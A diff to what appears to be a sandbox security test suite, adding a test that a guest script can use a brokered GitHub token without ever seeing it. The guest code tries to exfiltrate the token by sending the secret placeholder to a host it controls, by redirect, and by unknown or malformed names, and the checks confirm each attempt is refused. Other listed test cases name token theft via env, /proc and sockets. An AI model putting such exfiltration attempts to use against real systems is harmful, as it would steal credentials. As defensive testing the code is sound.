@@ -167,6 +167,87 @@ export default async (port: number) => {
                           "url": "http://127.0.0.1:%d/echo" % port}, "response rebuilt", o)
 
 
+def t_fetch_secret():
+    """The guest calls an API with a key it never sees, and cannot obtain it by any means it has."""
+    import base64
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+    value = "ghp_e2eSecretValue0123456789"
+    seen = {"api": [], "guest": []}
+
+    def handler(name):
+        class H(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *a):
+                pass
+
+            def do_GET(self):
+                seen[name].append((self.path, dict(self.headers)))
+                if self.path == "/away":
+                    self.send_response(307)
+                    self.send_header("Location", "http://127.0.0.1:%d/collect" % guest_up.server_address[1])
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
+                auth = self.headers.get("authorization", "")
+                body = json.dumps({"auth": auth, "b64": base64.b64encode(auth.encode()).decode()}).encode()
+                self.send_response(200, "OK " + auth)
+                self.send_header("X-Echo", auth)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+        return H
+
+    api = ThreadingHTTPServer(("127.0.0.1", 0), handler("api"))
+    guest_up = ThreadingHTTPServer(("127.0.0.1", 0), handler("guest"))
+    for srv in (api, guest_up):
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+    api_hp = "127.0.0.1:%d" % api.server_address[1]
+    guest_hp = "127.0.0.1:%d" % guest_up.server_address[1]
+    tok = broker.mint({"net": [api_hp, guest_hp]}, run_id="secret-e2e",
+                      secrets={"github": {"value": value, "hosts": [api_hp], "schemes": ["http"]}})
+    try:
+        o, _, out, err = guest("""
+export default async (p: { api: string, mine: string }) => {
+  const r: Record<string, unknown> = {};
+  const auth = { authorization: "Bearer {{secret:github}}" };
+  const res = await fetch(`http://${p.api}/user`, { headers: auth });
+  r.status = res.status; r.statusText = res.statusText; r.echo = res.headers.get("x-echo"); r.body = await res.text();
+  // the same placeholder to a host the guest controls: refused before anything is sent
+  try { await fetch(`http://${p.mine}/collect`, { headers: auth }); r.mine = "sent"; }
+  catch (e) { r.mine = String((e as Error).message) + " " + String((e as any).cause?.code); }
+  // a redirect from the API to the guest's host: the header does not follow
+  const away = await fetch(`http://${p.api}/away`, { headers: auth });
+  r.away = await away.text();
+  // a name the run does not have, and a malformed one
+  for (const v of ["{{secret:other}}", "{{secret:github"]) {
+    try { await fetch(`http://${p.api}/user`, { headers: { authorization: v } }); r[v] = "sent"; }
+    catch (e) { r[v] = String((e as Error).message); }
+  }
+  r.env = typeof Deno.env;
+  return r;
+};""", token=tok, inp={"api": api_hp, "mine": guest_hp}, flags=["--on-denial", "reply"])
+    finally:
+        for srv in (api, guest_up):
+            srv.shutdown()
+            srv.server_close()
+    check(o["ok"], "guest ran", o, err)
+    r = o["output"]
+    check(value not in out and value not in err, "the value never reached the guest or its output", out, err)
+    check(base64.b64encode(("Bearer " + value).encode()).decode()[:20] not in out, "nor its base64", out)
+    check(r["status"] == 200 and r["echo"] == "Bearer {{secret:github}}" and r["statusText"] == "OK Bearer {{secret:github}}",
+          "placeholders in the answer", r)
+    check(json.loads(r["body"])["auth"] == "Bearer {{secret:github}}", "placeholder in the body", r)
+    check([h.get("authorization") for p, h in seen["api"] if p == "/user"][0] == "Bearer " + value, "the API got the value",
+          seen["api"])
+    check(all("authorization" not in {k.lower() for k in h} for _, h in seen["guest"]), "the guest's host never got it",
+          seen["guest"])
+    check([p for p, _ in seen["guest"]] == ["/collect"], "only the redirect reached the guest's host", seen["guest"])
+    check("forbidden" in r["mine"] and 'secret "github" may not be sent to host' in r["mine"], "refused to the guest's host", r)
+    check('secret "other" is not granted' in r["{{secret:other}}"], "unknown name refused", r)
+    check("malformed secret placeholder" in r["{{secret:github"], "malformed placeholder refused", r)
+
+
 def t_token_theft():
     src = """
 export default async () => {
@@ -424,6 +505,7 @@ tap.case("denied call under terminate ends the run", t_denied_terminate)
 tap.case("denied call under reply is a catchable error", t_denied_reply)
 tap.case("fetch goes through http.fetch", t_fetch_shim)
 tap.case("fetch round trip through the broker (binary bodies)", t_fetch_roundtrip)
+tap.case("fetch with a secret the guest never sees", t_fetch_secret)
 tap.case("attack: reading the token (env, /proc, import, subprocess)", t_token_theft)
 tap.case("attack: sockets", t_sockets)
 tap.case("attack: forged frame via console", t_forged_frame_via_console)
